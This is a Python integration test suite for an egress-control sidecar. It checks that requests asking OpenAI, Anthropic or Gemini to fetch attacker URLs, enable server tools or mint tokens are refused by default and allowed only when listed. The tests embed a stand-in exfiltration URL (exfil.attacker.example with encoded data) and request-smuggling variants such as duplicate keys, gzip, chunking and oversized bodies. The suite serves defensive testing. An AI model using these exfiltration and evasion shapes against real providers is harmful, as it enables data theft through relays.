"""The provider as a relay (issue 13), through the real sidecar with the official SDKs.

A compromised gateway with an allowed path to a provider asks the *provider* to fetch or
call a URL of its choosing (an MCP server, an image or file URL, a container's network
allowlist), to run a network tool, or to mint a token that works from anywhere. Each
test builds that request with the provider's own SDK: refused by default, allowed when
the provider entry lists it, one decision line either way.
"""

from __future__ import annotations

import json
import ssl
import textwrap
from collections.abc import Callable
from typing import Any

import anthropic
import httpx
import openai
import pytest
from google import genai
from google.genai import _interactions as genai_interactions
from google.genai import errors as genai_errors
from google.genai import types as genai_types

from sidecar.credentials import generate_virtual_key, hash_virtual_key
from tests.support.fakes import FakeProvider
from tests.support.keys import KEYS
from tests.support.sidecar import SidecarProcess
from tests.support.websocket import websocket_tls

pytestmark = pytest.mark.integration

OPENAI, ANTHROPIC, GEMINI = (
    "api.openai.com",
    "api.anthropic.com",
    "generativelanguage.googleapis.com",
)
EVIL = "https://exfil.attacker.example/collect?d=c2VjcmV0LWRhdGE"  # the query carries the data


def relay_policy(port: int, mode: str = "enforce") -> str:
    return textwrap.dedent(
        f"""\
        version: 1
        mode: {mode}
        providers:
          openai:
            hosts: [api.openai.com]
            ports: [{port}]
            paths: [/v1/*]
            addresses: [127.0.0.0/8]
            fetch: [mcp.example.com, "*.cdn.example.com"]
            server_tools: [web_search]
            credential_minting: true
          anthropic:
            hosts: [api.anthropic.com]
            ports: [{port}]
            paths: [/v1/*]
            addresses: [127.0.0.0/8]
            fetch: [mcp.example.com, docs.example.com]
            server_tools: [web_fetch]
          gemini:
            hosts: [generativelanguage.googleapis.com]
            ports: [{port}]
            addresses: [127.0.0.0/8]
            fetch: [mcp.example.com, files.example.com]
            server_tools: [url_context]
            credential_minting: true
        """
    )


def default_policy(port: int, mode: str = "enforce") -> str:
    """The same providers without any relay key: the defaults."""
    lines = relay_policy(port, mode).splitlines()
    relay_keys = ("fetch:", "server_tools:", "credential_minting:")
    keep = [line for line in lines if not line.strip().startswith(relay_keys)]
    return "\n".join(keep) + "\n"


@pytest.fixture(scope="module")
def strict(start_sidecar, provider) -> SidecarProcess:
    return start_sidecar(default_policy(provider.port))


@pytest.fixture(scope="module")
def listed(start_sidecar, provider) -> SidecarProcess:
    return start_sidecar(relay_policy(provider.port))


@pytest.fixture(scope="module")
def audit(start_sidecar, provider) -> SidecarProcess:
    return start_sidecar(default_policy(provider.port, mode="audit"))


def _http(sidecar: SidecarProcess) -> httpx.Client:
    return httpx.Client(
        proxy=sidecar.proxy_url,
        verify=ssl.create_default_context(cafile=sidecar.ca_cert),
        timeout=20,
    )


def oai(sidecar: SidecarProcess, port: int) -> openai.OpenAI:
    return openai.OpenAI(
        api_key="dummy", base_url=f"https://{OPENAI}:{port}/v1", http_client=_http(sidecar),
        max_retries=0,
    )  # fmt: skip


def ant(sidecar: SidecarProcess, port: int) -> anthropic.Anthropic:
    http_client = anthropic.DefaultHttpxClient(
        proxy=sidecar.proxy_url, verify=ssl.create_default_context(cafile=sidecar.ca_cert)
    )
    return anthropic.Anthropic(
        api_key="dummy", base_url=f"https://{ANTHROPIC}:{port}", http_client=http_client,
        max_retries=0,
    )  # fmt: skip


def gem(sidecar: SidecarProcess, port: int, version: str = "v1beta") -> genai.Client:
    options = genai_types.HttpOptions(
        base_url=f"https://{GEMINI}:{port}", api_version=version, httpx_client=_http(sidecar),
        retry_options=genai_types.HttpRetryOptions(attempts=1),
    )  # fmt: skip
    return genai.Client(api_key="dummy", http_options=options)


class Outcome:
    """What one SDK call did: the status the SDK saw and the sidecar's one line for it."""

    def __init__(self, status: int, reason: str | None, decision: dict[str, Any], sent: int):
        self.status, self.reason, self.decision, self.sent = status, reason, decision, sent


def call(
    sidecar: SidecarProcess, provider: FakeProvider, path: str, send: Callable[[], Any]
) -> Outcome:
    decisions, received = len(sidecar.decisions), len(provider.received)
    status, reason = 200, None
    try:
        send()
    except (openai.APIStatusError, anthropic.APIStatusError) as exc:
        status, reason = exc.status_code, exc.response.headers.get("x-egress-sidecar-reason")
    except genai_errors.APIError as exc:
        status = exc.code
        reason = exc.response.headers.get("x-egress-sidecar-reason") if exc.response else None
    except genai_interactions.APIStatusError as exc:  # the Interactions client's own errors
        status, reason = exc.status_code, exc.response.headers.get("x-egress-sidecar-reason")
    except (openai.APIError, anthropic.APIError, ValueError, TypeError, KeyError):
        pass  # the fake provider's answer does not parse as the SDK's model: it was sent
    decision = _one_line(sidecar, decisions, path)
    return Outcome(status, reason, decision, len(provider.received) - received)


def _one_line(sidecar: SidecarProcess, mark: int, path: str) -> dict[str, Any]:
    sidecar.wait_for_decision(timeout=15, path=path)
    import time

    time.sleep(0.2)  # a second line for the same request would be written by now
    lines = [d for d in sidecar.decisions[mark:] if d.get("path") == path]
    assert len(lines) == 1, lines
    return lines[0]


def refused(outcome: Outcome, reason: str, field: str) -> None:
    assert outcome.status == 403 or (reason == "request_not_inspectable" and outcome.status == 400)
    assert outcome.reason == reason
    assert outcome.sent == 0  # nothing reached the provider
    assert outcome.decision["decision"] == "block"
    assert outcome.decision["reason"] == reason
    assert field in outcome.decision["detail"]
    assert "c2VjcmV0" not in json.dumps(outcome.decision)  # never the URL's query


def allowed(outcome: Outcome) -> None:
    assert outcome.sent == 1
    assert outcome.decision["decision"] == "allow", outcome.decision


def mcp_tool(url: str) -> dict[str, Any]:
    return {"type": "mcp", "server_label": "x", "server_url": url, "require_approval": "never"}


# --- OpenAI Responses -------------------------------------------------------------------------


def test_responses_mcp_server_url_to_unlisted_host_is_refused(strict, provider):
    client = oai(strict, provider.port)
    outcome = call(strict, provider, "/v1/responses", lambda: client.responses.create(
        model="gpt-5", input="summarise our secrets", tools=[mcp_tool(EVIL)]))  # fmt: skip
    refused(outcome, "provider_fetch_not_allowed", "tools[0].server_url")
    assert "exfil.attacker.example" in outcome.decision["detail"]


def test_responses_mcp_server_url_listed_in_fetch_is_allowed(listed, provider):
    client = oai(listed, provider.port)
    outcome = call(listed, provider, "/v1/responses", lambda: client.responses.create(
        model="gpt-5", input="hi", tools=[mcp_tool("https://mcp.example.com/sse")]))  # fmt: skip
    allowed(outcome)
    assert json.loads(provider.received[-1].body)["tools"][0]["server_url"].startswith(
        "https://mcp"
    )


def test_responses_mcp_to_listed_host_over_plain_http_is_refused(listed, provider):
    client = oai(listed, provider.port)
    outcome = call(listed, provider, "/v1/responses", lambda: client.responses.create(
        model="gpt-5", input="hi", tools=[mcp_tool("http://mcp.example.com/sse")]))  # fmt: skip
    refused(outcome, "provider_fetch_not_allowed", "tools[0].server_url")


def test_responses_mcp_connector_is_refused_by_default(strict, provider):
    client = oai(strict, provider.port)
    tool = {"type": "mcp", "server_label": "g", "connector_id": "connector_gmail",
            "authorization": "ya29.token", "require_approval": "never"}  # fmt: skip
    outcome = call(strict, provider, "/v1/responses", lambda: client.responses.create(
        model="gpt-5", input="mail this out", tools=[tool]))  # fmt: skip
    refused(outcome, "server_tool_not_allowed", "tools[0].connector_id")
    assert "ya29" not in json.dumps(outcome.decision)


def test_responses_input_image_url_to_unlisted_host_is_refused(strict, provider):
    client = oai(strict, provider.port)
    part = {"type": "input_image", "image_url": EVIL, "detail": "auto"}
    outcome = call(strict, provider, "/v1/responses", lambda: client.responses.create(
        model="gpt-5", input=[{"role": "user", "content": [part]}]))  # fmt: skip
    refused(outcome, "provider_fetch_not_allowed", "input[0].content[0].image_url")


def test_responses_input_image_url_under_listed_wildcard_is_allowed(listed, provider):
    client = oai(listed, provider.port)
    part = {
        "type": "input_image",
        "image_url": "https://img.cdn.example.com/a.png",
        "detail": "auto",
    }
    outcome = call(listed, provider, "/v1/responses", lambda: client.responses.create(
        model="gpt-5", input=[{"role": "user", "content": [part]}]))  # fmt: skip
    allowed(outcome)


def test_responses_input_file_url_to_unlisted_host_is_refused(strict, provider):
    client = oai(strict, provider.port)
    part = {"type": "input_file", "file_url": EVIL}
    outcome = call(strict, provider, "/v1/responses", lambda: client.responses.create(
        model="gpt-5", input=[{"role": "user", "content": [part]}]))  # fmt: skip
    refused(outcome, "provider_fetch_not_allowed", "input[0].content[0].file_url")


def test_responses_web_search_is_refused_by_default_and_allowed_when_listed(
    strict, listed, provider
):
    for sidecar, ok in ((strict, False), (listed, True)):
        client = oai(sidecar, provider.port)
        outcome = call(sidecar, provider, "/v1/responses", lambda c=client: c.responses.create(
            model="gpt-5", input="x", tools=[{"type": "web_search"}]))  # fmt: skip
        if ok:
            allowed(outcome)
        else:
            refused(outcome, "server_tool_not_allowed", "tools[0]")


def test_code_interpreter_container_allowlisting_an_attacker_domain_is_refused(strict, provider):
    client = oai(strict, provider.port)
    tool = {"type": "code_interpreter", "container": {"type": "auto", "network_policy": {
        "type": "allowlist", "allowed_domains": ["exfil.attacker.example"],
        "domain_secrets": [{"domain": "exfil.attacker.example", "name": "K", "value": "s3cr3t"}],
    }}}  # fmt: skip
    outcome = call(strict, provider, "/v1/responses", lambda: client.responses.create(
        model="gpt-5", input="x", tools=[tool]))  # fmt: skip
    refused(outcome, "provider_fetch_not_allowed", "network_policy.allowed_domains[0]")
    assert "s3cr3t" not in json.dumps(outcome.decision)


def test_shell_container_domain_secret_to_unlisted_domain_is_refused(listed, provider):
    client = oai(listed, provider.port)
    tool = {"type": "shell", "environment": {"type": "container_auto", "network_policy": {
        "type": "allowlist", "allowed_domains": ["mcp.example.com"],
        "domain_secrets": [{"domain": "exfil.attacker.example", "name": "K", "value": "v"}],
    }}}  # fmt: skip
    outcome = call(listed, provider, "/v1/responses", lambda: client.responses.create(
        model="gpt-5", input="x", tools=[tool]))  # fmt: skip
    refused(outcome, "provider_fetch_not_allowed", "domain_secrets[0].domain")


def test_containers_endpoint_network_allowlist_to_unlisted_domain_is_refused(strict, provider):
    client = oai(strict, provider.port)
    policy = {"type": "allowlist", "allowed_domains": ["exfil.attacker.example"]}
    outcome = call(strict, provider, "/v1/containers", lambda: client.containers.create(
        name="c", network_policy=policy))  # fmt: skip
    refused(outcome, "provider_fetch_not_allowed", "network_policy.allowed_domains[0]")


# --- OpenAI Chat Completions ------------------------------------------------------------------


def test_chat_image_url_to_unlisted_host_is_refused(strict, provider):
    client = oai(strict, provider.port)
    part = {"type": "image_url", "image_url": {"url": EVIL}}
    outcome = call(strict, provider, "/v1/chat/completions", lambda: client.chat.completions.create(
        model="gpt-4o", messages=[{"role": "user", "content": [part]}]))  # fmt: skip
    refused(outcome, "provider_fetch_not_allowed", "messages[0].content[0].image_url.url")


def test_chat_image_url_under_listed_wildcard_is_allowed(listed, provider):
    client = oai(listed, provider.port)
    part = {"type": "image_url", "image_url": {"url": "https://a.cdn.example.com/x.png"}}
    outcome = call(listed, provider, "/v1/chat/completions", lambda: client.chat.completions.create(
        model="gpt-4o", messages=[{"role": "user", "content": [part]}]))  # fmt: skip
    allowed(outcome)


# --- credential minting ---------------------------------------------------------------------


def test_realtime_client_secret_minting_is_refused_by_default(strict, provider):
    client = oai(strict, provider.port)
    path = "/v1/realtime/client_secrets"
    outcome = call(strict, provider, path, lambda: client.realtime.client_secrets.create(
        session={"type": "realtime", "model": "gpt-realtime"}))  # fmt: skip
    refused(outcome, "credential_minting_not_allowed", "realtime/client_secrets")


def test_realtime_client_secret_minting_is_allowed_when_opted_in(listed, provider):
    client = oai(listed, provider.port)
    path = "/v1/realtime/client_secrets"
    outcome = call(listed, provider, path, lambda: client.realtime.client_secrets.create(
        session={"type": "realtime", "model": "gpt-realtime"}))  # fmt: skip
    allowed(outcome)


def test_minted_session_declaring_an_unlisted_mcp_server_is_refused_even_when_minting_is_allowed(
    listed, provider
):
    client = oai(listed, provider.port)
    path = "/v1/realtime/client_secrets"
    session = {"type": "realtime", "model": "gpt-realtime", "tools": [mcp_tool(EVIL)]}
    outcome = call(listed, provider, path, lambda: client.realtime.client_secrets.create(
        session=session))  # fmt: skip
    refused(outcome, "provider_fetch_not_allowed", "session.tools[0].server_url")


def test_gemini_auth_token_minting_is_refused_by_default(strict, provider):
    client = gem(strict, provider.port, version="v1alpha")
    outcome = call(strict, provider, "/v1alpha/auth_tokens", lambda: client.auth_tokens.create(
        config={"uses": 1}))  # fmt: skip
    refused(outcome, "credential_minting_not_allowed", "auth_tokens")


# --- Anthropic Messages -----------------------------------------------------------------------


def test_anthropic_mcp_server_url_to_unlisted_host_is_refused(strict, provider):
    client = ant(strict, provider.port)
    server = {"type": "url", "url": EVIL, "name": "x", "authorization_token": "tok-SECRET"}
    outcome = call(strict, provider, "/v1/messages", lambda: client.beta.messages.create(
        model="claude-opus-4-7", max_tokens=10, messages=[{"role": "user", "content": "x"}],
        mcp_servers=[server], tools=[{"type": "mcp_toolset", "mcp_server_name": "x"}],
        betas=["mcp-client-2025-11-20"]))  # fmt: skip
    refused(outcome, "provider_fetch_not_allowed", "mcp_servers[0].url")
    assert "tok-SECRET" not in json.dumps(outcome.decision)


def test_anthropic_mcp_server_listed_in_fetch_is_allowed(listed, provider):
    client = ant(listed, provider.port)
    server = {"type": "url", "url": "https://mcp.example.com/sse", "name": "x"}
    outcome = call(listed, provider, "/v1/messages", lambda: client.beta.messages.create(
        model="claude-opus-4-7", max_tokens=10, messages=[{"role": "user", "content": "x"}],
        mcp_servers=[server], betas=["mcp-client-2025-04-04"]))  # fmt: skip
    allowed(outcome)


def test_anthropic_web_fetch_tool_is_refused_by_default_and_allowed_when_listed(
    strict, listed, provider
):
    tool = {"type": "web_fetch_20250910", "name": "web_fetch", "max_uses": 1}
    for sidecar, ok in ((strict, False), (listed, True)):
        client = ant(sidecar, provider.port)
        outcome = call(sidecar, provider, "/v1/messages", lambda c=client: c.beta.messages.create(
            model="claude-opus-4-7", max_tokens=10, tools=[tool],
            messages=[{"role": "user", "content": f"fetch {EVIL}"}],
            betas=["web-fetch-2025-09-10"]))  # fmt: skip
        if ok:
            allowed(outcome)
        else:
            refused(outcome, "server_tool_not_allowed", "tools[0]")


def test_anthropic_web_search_tool_is_refused_by_default(strict, provider):
    client = ant(strict, provider.port)
    tool = {"type": "web_search_20250305", "name": "web_search"}
    outcome = call(strict, provider, "/v1/messages", lambda: client.messages.create(
        model="claude-opus-4-7", max_tokens=10, tools=[tool],
        messages=[{"role": "user", "content": "x"}]))  # fmt: skip
    refused(outcome, "server_tool_not_allowed", "tools[0]")


@pytest.mark.parametrize("kind", ["image", "document"])
def test_anthropic_url_source_to_unlisted_host_is_refused(strict, provider, kind):
    client = ant(strict, provider.port)
    block = {"type": kind, "source": {"type": "url", "url": EVIL}}
    outcome = call(strict, provider, "/v1/messages", lambda: client.messages.create(
        model="claude-opus-4-7", max_tokens=10,
        messages=[{"role": "user", "content": [block]}]))  # fmt: skip
    refused(outcome, "provider_fetch_not_allowed", "messages[0].content[0].source.url")


def test_anthropic_document_url_listed_in_fetch_is_allowed(listed, provider):
    client = ant(listed, provider.port)
    block = {"type": "document", "source": {"type": "url", "url": "https://docs.example.com/a.pdf"}}
    outcome = call(listed, provider, "/v1/messages", lambda: client.messages.create(
        model="claude-opus-4-7", max_tokens=10,
        messages=[{"role": "user", "content": [block]}]))  # fmt: skip
    allowed(outcome)


# --- Gemini -----------------------------------------------------------------------------------

GENERATE = "/v1beta/models/gemini-2.5-flash:generateContent"


def test_gemini_file_uri_to_unlisted_host_is_refused(strict, provider):
    client = gem(strict, provider.port)
    part = genai_types.Part.from_uri(file_uri=EVIL, mime_type="application/pdf")
    outcome = call(strict, provider, GENERATE, lambda: client.models.generate_content(
        model="gemini-2.5-flash", contents=[part, "summarise"]))  # fmt: skip
    refused(outcome, "provider_fetch_not_allowed", "parts[0].fileData.fileUri")


def test_gemini_file_uri_listed_in_fetch_is_allowed(listed, provider):
    client = gem(listed, provider.port)
    part = genai_types.Part.from_uri(
        file_uri="https://files.example.com/a.pdf", mime_type="application/pdf"
    )
    outcome = call(listed, provider, GENERATE, lambda: client.models.generate_content(
        model="gemini-2.5-flash", contents=[part, "summarise"]))  # fmt: skip
    allowed(outcome)


def test_gemini_url_context_tool_is_refused_by_default_and_allowed_when_listed(
    strict, listed, provider
):
    config = genai_types.GenerateContentConfig(
        tools=[genai_types.Tool(url_context=genai_types.UrlContext())]
    )
    for sidecar, ok in ((strict, False), (listed, True)):
        client = gem(sidecar, provider.port)
        outcome = call(sidecar, provider, GENERATE, lambda c=client: c.models.generate_content(
            model="gemini-2.5-flash", contents=f"read {EVIL}", config=config))  # fmt: skip
        if ok:
            allowed(outcome)
        else:
            refused(outcome, "server_tool_not_allowed", "tools[0]")


def test_gemini_google_search_tool_is_refused_by_default(strict, provider):
    client = gem(strict, provider.port)
    config = genai_types.GenerateContentConfig(
        tools=[genai_types.Tool(google_search=genai_types.GoogleSearch())]
    )
    outcome = call(strict, provider, GENERATE, lambda: client.models.generate_content(
        model="gemini-2.5-flash", contents="x", config=config))  # fmt: skip
    refused(outcome, "server_tool_not_allowed", "tools[0]")


def test_gemini_interactions_mcp_server_to_unlisted_host_is_refused(strict, provider):
    client = gem(strict, provider.port)
    tool = {"type": "mcp_server", "url": EVIL, "name": "x"}
    outcome = call(strict, provider, "/v1beta/interactions", lambda: client.interactions.create(
        model="gemini-2.5-flash", input="x", tools=[tool]))  # fmt: skip
    refused(outcome, "provider_fetch_not_allowed", "tools[0].url")


# --- ambiguity, bounds, audit -----------------------------------------------------------------


def test_duplicate_tools_key_hiding_an_mcp_server_is_refused(strict, provider):
    """Python keeps the last `tools`, other parsers the first: refused, not guessed."""
    body = (
        b'{"model":"m","input":"x","tools":[],"tools":['
        + json.dumps(mcp_tool(EVIL)).encode()
        + b"]}"
    )
    outcome = call(strict, provider, "/v1/responses", lambda: _raw(strict, provider, body))
    refused(outcome, "request_not_inspectable", "duplicate key")


def test_gzip_encoded_body_hiding_an_mcp_server_is_read_and_refused(strict, provider):
    import gzip

    body = gzip.compress(
        json.dumps({"model": "m", "input": "x", "tools": [mcp_tool(EVIL)]}).encode()
    )
    outcome = call(strict, provider, "/v1/responses",
                   lambda: _raw(strict, provider, body, {"content-encoding": "gzip"}))  # fmt: skip
    refused(outcome, "provider_fetch_not_allowed", "tools[0].server_url")


def test_body_in_an_unknown_encoding_is_refused(strict, provider):
    headers = {"content-encoding": "x-rot13"}
    outcome = call(strict, provider, "/v1/responses",
                   lambda: _raw(strict, provider, b"{}", headers))  # fmt: skip
    refused(outcome, "request_not_inspectable", "unknown encoding")


def test_audit_mode_logs_would_block_and_lets_the_request_through(audit, provider):
    client = oai(audit, provider.port)
    outcome = call(audit, provider, "/v1/responses", lambda: client.responses.create(
        model="gpt-5", input="x", tools=[mcp_tool(EVIL)]))  # fmt: skip
    assert outcome.sent == 1
    assert outcome.decision["decision"] == "would_block"
    assert outcome.decision["reason"] == "provider_fetch_not_allowed"


def test_refusals_are_counted_by_reason_and_field(strict, provider):
    client = oai(strict, provider.port)
    call(strict, provider, "/v1/responses", lambda: client.responses.create(
        model="gpt-5", input="x", tools=[mcp_tool(EVIL)]))  # fmt: skip
    metrics = strict.metrics()
    assert (
        'egress_sidecar_request_inspection_refusals_total{field="server_url",'
        'reason="provider_fetch_not_allowed"}'
    ) in metrics
    assert "egress_sidecar_request_inspected_bytes_total" in metrics


def _raw(sidecar: SidecarProcess, provider: FakeProvider, body: bytes, headers=None) -> None:
    with _http(sidecar) as client:
        response = client.post(
            f"https://{OPENAI}:{provider.port}/v1/responses",
            content=body,
            headers={"content-type": "application/json", **(headers or {})},
        )
    if response.status_code >= 400:
        raise openai.APIStatusError("refused", response=response, body=None)


# --- WebSocket: OpenAI Realtime client events ----------------------------------------------


def _realtime(sidecar: SidecarProcess, port: int, session: dict[str, Any]) -> list[dict]:
    """Send one session.update through the sidecar with the SDK's realtime client, then a
    harmless event; return the events the gateway got back."""
    client = openai.OpenAI(
        api_key="dummy",
        base_url=f"https://{OPENAI}:{port}/v1",
        websocket_base_url=f"wss://{OPENAI}:{port}/v1",
    )
    options = {
        "proxy": sidecar.proxy_url,
        "ssl": websocket_tls(sidecar.ca_cert),
        "open_timeout": 60,  # the handshake on a busy machine
    }
    events: list[dict] = []
    with client.realtime.connect(
        model="gpt-realtime", extra_query={"quiet": "1"}, websocket_connection_options=options
    ) as connection:
        events.append(connection.recv().model_dump())  # session.created
        connection.session.update(session=session)
        connection.send({"type": "input_audio_buffer.clear"})
        for _ in range(2):
            events.append(json.loads(connection.recv_bytes()))
            if events[-1].get("type") == "ack":
                break
    return events


def test_realtime_session_update_declaring_an_unlisted_mcp_server_is_dropped(strict, provider):
    before, mark = len(provider.ws_received), len(strict.decisions)
    session = {"type": "realtime", "tools": [mcp_tool(EVIL)]}
    events = _realtime(strict, provider.port, session)
    assert events[1]["type"] == "error"
    assert events[1]["error"]["code"] == "provider_fetch_not_allowed"
    assert events[2]["type"] == "ack"  # the session goes on; only that message was dropped
    sent = [json.loads(m) for m in provider.ws_received[before:]]
    assert [m["type"] for m in sent] == ["input_audio_buffer.clear"]
    decision = strict.wait_for_decision(timeout=10, reason="provider_fetch_not_allowed",
                                        path="/v1/realtime")  # fmt: skip
    assert "session.tools[0].server_url" in decision["detail"]
    assert "WebSocket message" in decision["detail"]
    assert "c2VjcmV0" not in json.dumps(strict.decisions[mark:])


def test_realtime_session_update_with_a_listed_mcp_server_goes_through(listed, provider):
    before = len(provider.ws_received)
    session = {"type": "realtime", "tools": [mcp_tool("https://mcp.example.com/sse")]}
    events = _realtime(listed, provider.port, session)
    assert events[1]["type"] == "ack"
    sent = [json.loads(m) for m in provider.ws_received[before:]]
    assert sent[0]["type"] == "session.update"
    assert sent[0]["session"]["tools"][0]["server_url"] == "https://mcp.example.com/sse"


# --- per tenant (virtual keys) ---------------------------------------------------------------


TOOLS_KEY, OTHER_KEY = generate_virtual_key(), generate_virtual_key()


@pytest.fixture(scope="module")
def tenants(start_sidecar, provider, secrets, tmp_path_factory) -> SidecarProcess:
    path = tmp_path_factory.mktemp("vk") / "virtual-keys.yaml"
    path.write_text(
        "version: 1\ntenants:\n"
        f"  team-tools:\n    keys: [{hash_virtual_key(TOOLS_KEY)}]\n    providers: [openai]\n"
        f"  team-other:\n    keys: [{hash_virtual_key(OTHER_KEY)}]\n    providers: [openai]\n"
    )
    policy = textwrap.dedent(
        f"""\
        version: 1
        providers:
          openai:
            hosts: [api.openai.com]
            ports: [{provider.port}]
            addresses: [127.0.0.0/8]
            credential: {{header: authorization, format: "Bearer {{secret}}", secret: openai}}
            tenants:
              team-tools: {{fetch: [mcp.team-tools.example.com]}}
        """
    )
    return start_sidecar(
        policy, extra_args=("--secrets-dir", str(secrets.root), "--virtual-keys", str(path))
    )


def test_tenant_mcp_server_listed_for_another_tenant_is_refused(tenants, provider):
    tool = mcp_tool("https://mcp.team-tools.example.com/sse")
    for key, tenant, ok in ((TOOLS_KEY, "team-tools", True), (OTHER_KEY, "team-other", False)):
        client = openai.OpenAI(
            api_key=key, base_url=f"https://{OPENAI}:{provider.port}/v1",
            http_client=_http(tenants), max_retries=0,
        )  # fmt: skip
        outcome = call(tenants, provider, "/v1/responses", lambda c=client: c.responses.create(
            model="gpt-5", input="x", tools=[tool]))  # fmt: skip
        assert outcome.decision["tenant"] == tenant
        if ok:
            allowed(outcome)
            assert provider.received[-1].headers["authorization"] == f"Bearer {KEYS['openai']}"
        else:
            refused(outcome, "provider_fetch_not_allowed", "tools[0].server_url")


# --- the same request, smuggled in other shapes ------------------------------------------------


def _smuggle(sidecar, provider, *, path="/v1/responses", http2=False, chunked=False,
             content_type="application/json") -> httpx.Response:  # fmt: skip
    body = json.dumps({"model": "m", "input": "x", "tools": [mcp_tool(EVIL)]}).encode()
    content: Any = iter([body[:20], body[20:]]) if chunked else body
    context = ssl.create_default_context(cafile=sidecar.ca_cert)
    with httpx.Client(proxy=sidecar.proxy_url, verify=context, timeout=20, http2=http2) as c:
        return c.post(f"https://{OPENAI}:{provider.port}{path}", content=content,
                      headers={"content-type": content_type})  # fmt: skip


@pytest.mark.parametrize(
    ("case", "kwargs"),
    [
        ("http2", {"http2": True}),
        ("chunked_without_length", {"chunked": True}),
        ("text_plain_content_type", {"content_type": "text/plain"}),
        ("multipart_content_type_on_a_json_api", {"content_type": "multipart/form-data; b=x"}),
        ("path_the_sidecar_does_not_know", {"path": "/v1/responses-next"}),
        ("trailing_slash", {"path": "/v1/responses/"}),
    ],
)
def test_mcp_server_smuggled_in_another_request_shape_is_refused(strict, provider, case, kwargs):
    mark = len(provider.received)
    response = _smuggle(strict, provider, **kwargs)
    assert response.status_code == 403, (case, response.text)
    assert response.headers["x-egress-sidecar-reason"] == "provider_fetch_not_allowed"
    assert provider.received[mark:] == []


# --- max_inspected_body --------------------------------------------------------------------


@pytest.fixture(scope="module")
def small(start_sidecar, provider) -> SidecarProcess:
    policy = default_policy(provider.port).replace(
        "    paths: [/v1/*]\n", "    paths: [/v1/*]\n    max_inspected_body: 64k\n", 1
    )
    assert "max_inspected_body" in policy
    return start_sidecar(policy)


def _big(sidecar, provider, *, chunked: bool) -> tuple[int | None, list[Any]]:
    filler = "x" * (200 * 1024)  # a prompt past 64k; the MCP server is after it
    body = json.dumps({"model": "m", "input": filler, "tools": [mcp_tool(EVIL)]}).encode()
    content: Any = (
        iter([body[i : i + 16384] for i in range(0, len(body), 16384)]) if chunked else body
    )
    mark = len(provider.received)
    context = ssl.create_default_context(cafile=sidecar.ca_cert)
    status = None
    try:
        with httpx.Client(proxy=sidecar.proxy_url, verify=context, timeout=20) as c:
            status = c.post(f"https://{OPENAI}:{provider.port}/v1/responses", content=content,
                            headers={"content-type": "application/json"}).status_code  # fmt: skip
    except httpx.HTTPError:
        pass  # cut off mid-body: the connection is closed, also a refusal
    return status, provider.received[mark:]


def test_declared_body_past_max_inspected_body_is_refused_unread(small, provider):
    status, sent = _big(small, provider, chunked=False)
    assert status == 400 and sent == []
    decision = small.wait_for_decision(timeout=10, reason="request_not_inspectable")
    assert "max_inspected_body" in decision["detail"]


def test_chunked_body_past_max_inspected_body_is_cut_off_not_forwarded(small, provider):
    status, sent = _big(small, provider, chunked=True)
    assert status in (None, 413) and sent == []
    small.wait_for_decision(timeout=10, reason="request_body_too_large", path="/v1/responses")
